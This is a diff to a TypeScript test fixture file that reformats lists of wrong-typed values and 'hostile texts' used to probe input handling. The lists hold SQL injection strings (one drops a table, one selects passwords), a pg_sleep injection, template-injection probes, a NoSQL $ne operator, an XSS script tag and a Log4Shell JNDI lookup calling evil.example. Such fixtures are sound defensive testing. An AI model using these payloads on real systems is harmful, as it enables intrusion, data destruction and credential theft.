@@ -1,6 +1,15 @@
 /** Values of other kinds than a field has. */
 export const otherKinds: readonly unknown[] = [
-  null, true, -1, 1e308, [], ['a'], {}, { $ne: null }, { length: 12, toString: 'a', constructor: { name: 'x' } }, Array.from({ length: 200 }, () => 'a'),
+  null,
+  true,
+  -1,
+  1e308,
+  [],
+  ['a'],
+  {},
+  { $ne: null },
+  { length: 12, toString: 'a', constructor: { name: 'x' } },
+  Array.from({ length: 200 }, () => 'a'),
 ];
 
 /** Texts that some program somewhere takes for something else. */
@@ -8,7 +17,7 @@ export const hostileTexts: readonly string[] = [
   "' or '1'='1",
   "'; drop table members; --",
   "' union select password from credentials --",
-  "1); select pg_sleep(10); --",
+  '1); select pg_sleep(10); --',
   '${7*7}{{7*7}}<%= 7*7 %>#{7*7}',
   '${jndi:ldap://evil.example/a}',
   '<script>alert(1)</script>',
